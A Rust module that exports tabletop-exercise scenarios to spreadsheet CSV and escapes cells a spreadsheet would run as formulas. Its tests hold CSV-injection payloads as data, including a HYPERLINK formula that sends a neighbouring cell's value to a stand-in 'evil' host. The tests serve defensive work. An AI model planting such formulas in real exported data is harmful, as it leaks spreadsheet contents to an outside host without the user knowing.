//! Writing a scenario as a spreadsheet MSEL (CSV), for controllers who plan in a spreadsheet.
//!
//! The headers are the common spreadsheet names that [`crate::import_csv`] reads back; the
//! scenario title, description, speed and the moves with their titles go on `#` lines above
//! the header. Expected actions are one per line within their cell. Import of the output gives
//! an equal scenario as long as no expected action contains a `;` or a line break (the
//! spreadsheet form's separators).
//!
//! Every cell goes through [`spreadsheet_safe`]: a cell a spreadsheet would run as a formula
//! (one that starts with `=`, `+`, `-`, `@`, a tab or a carriage return) is written with a
//! leading `'`, which [`crate::import_csv`] removes again (README.md, "CSV and spreadsheets").

use crate::msel::Scenario;
use crate::time::format_at;

/// The header row written by [`export_csv`].
pub const EXPORT_HEADERS: [&str; 12] = [
    "Inject #",
    "Time",
    "Move",
    "From",
    "To",
    "Delivery method",
    "Subject",
    "Message",
    "Expected player action",
    "Objective",
    "Controller notes",
    "Contingency",
];

/// The first characters that make a spreadsheet read a cell as a formula (OWASP "CSV
/// injection"): `=`, `+`, `-`, `@`, and tab and carriage return, which some spreadsheets skip
/// before looking for the others.
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `value` as a CSV cell that no spreadsheet runs as a formula: prefixed with `'` when it starts
/// with one of [`FORMULA_STARTS`] or with `'` itself (so that [`from_spreadsheet_safe`] can
/// tell an added quote from one that was there), otherwise unchanged.
pub fn spreadsheet_safe(value: &str) -> std::borrow::Cow<'_, str> {
    match value.chars().next() {
        Some(c) if c == '\'' || FORMULA_STARTS.contains(&c) => format!("'{value}").into(),
        _ => value.into(),
    }
}

/// The value [`spreadsheet_safe`] wrote `cell` for: one leading `'` is removed when the next
/// character is one it escapes. A cell typed by hand as `'note` stays as it is.
pub fn from_spreadsheet_safe(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest)
            if rest
                .chars()
                .next()
                .is_some_and(|c| c == '\'' || FORMULA_STARTS.contains(&c)) =>
        {
            rest
        }
        _ => cell,
    }
}

/// The scenario as CSV.
pub fn export_csv(s: &Scenario) -> String {
    let mut w = csv::WriterBuilder::new()
        .flexible(true)
        .terminator(csv::Terminator::Any(b'\n'))
        .from_writer(Vec::new());
    let mut lines = vec![format!("# title: {}", s.title())];
    if let Some(d) = s.description() {
        lines.push(format!("# description: {d}"));
    }
    if let Some(speed) = s.speed() {
        lines.push(format!("# speed: {speed}"));
    }
    for m in s.moves() {
        lines.push(format!("# move: {}: {}", m.id, m.title));
    }
    for o in s.objectives() {
        lines.push(format!("# objective: {}: {}", o.id, o.title));
        if let Some(c) = &o.capability {
            lines.push(format!("# capability: {}: {c}", o.id));
        }
        for t in &o.tasks {
            lines.push(format!("# task: {}: {t}", o.id));
        }
    }
    // Writing to a Vec cannot fail; the results are only io::Result of Vec::write.
    for line in &lines {
        let _ = w.write_record([line.as_str()]);
    }
    let _ = w.write_record(EXPORT_HEADERS);
    for i in s.injects() {
        let at = format_at(i.at_s);
        let expected = i.expected.join("\n");
        let row = [
            i.id.as_str(),
            &at,
            i.move_id.as_str(),
            i.from.as_deref().unwrap_or(""),
            i.to.as_deref().unwrap_or(""),
            i.channel.as_str(),
            &i.title,
            &i.text,
            &expected,
            i.objective.as_deref().unwrap_or(""),
            i.notes.as_deref().unwrap_or(""),
            if i.contingency { "yes" } else { "no" },
        ];
        let _ = w.write_record(row.map(spreadsheet_safe).iter().map(|c| c.as_bytes()));
    }
    let bytes = w.into_inner().unwrap_or_default();
    String::from_utf8(bytes).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::import::import_csv;

    #[test]
    fn export_reads_back() {
        let text = "[scenario]\ntitle = \"T, with comma\"\ndescription = \"D\"\nspeed = 10\n\
                    [[move]]\nid = \"M1\"\ntitle = \"One: first\"\n[[move]]\nid = \"M2\"\ntitle = \"Unused\"\n\
                    [[inject]]\nid = \"a\"\nat = 5\nmove = \"M1\"\nchannel = \"x\"\ntitle = \"t\"\n\
                    text = \"\"\"\nq \"quoted\", and\nmore\"\"\"\nexpected = [\"e1\", \"e2\"]\ncontingency = true\n";
        let s = Scenario::from_toml(text).unwrap();
        let csv = export_csv(&s);
        assert!(
            csv.starts_with("\"# title: T, with comma\"\n# description: D\n"),
            "{csv}"
        );
        assert_eq!(import_csv(&csv).unwrap(), s, "{csv}");
    }

    #[test]
    fn formula_cells_are_neutralised_and_read_back() {
        for (value, cell) in [
            ("=HYPERLINK(\"http://x/?\"&A1,\"click\")", "'=HYPERLINK"),
            ("+1", "'+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM"),
            ("\t=1", "'\t=1"),
            ("'quoted", "''quoted"),
            ("plain", "plain"),
            ("", ""),
        ] {
            assert!(spreadsheet_safe(value).starts_with(cell), "{value:?}");
            assert_eq!(from_spreadsheet_safe(&spreadsheet_safe(value)), value);
        }
        assert_eq!(from_spreadsheet_safe("'note"), "'note", "typed by hand");
        let text = r#"
[scenario]
title = "T"
[[move]]
id = "M1"
title = "One"
[[inject]]
id = "a"
at = 5
move = "M1"
channel = "x"
title = "@cmd"
text = '=HYPERLINK("http://evil/"&A1,"click")'
objective = "+1"
notes = "'- note"
expected = ["-do it"]
"#;
        let s = Scenario::from_toml(text).unwrap();
        let csv = export_csv(&s);
        let rows: Vec<csv::StringRecord> = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(csv.as_bytes())
            .records()
            .map(Result::unwrap)
            .collect();
        let row = rows.last().unwrap();
        for cell in row.iter() {
            assert!(
                !cell.starts_with(FORMULA_STARTS),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
        assert_eq!(&row[7], "'=HYPERLINK(\"http://evil/\"&A1,\"click\")");
        assert_eq!(import_csv(&csv).unwrap(), s, "{csv}");
    }
}
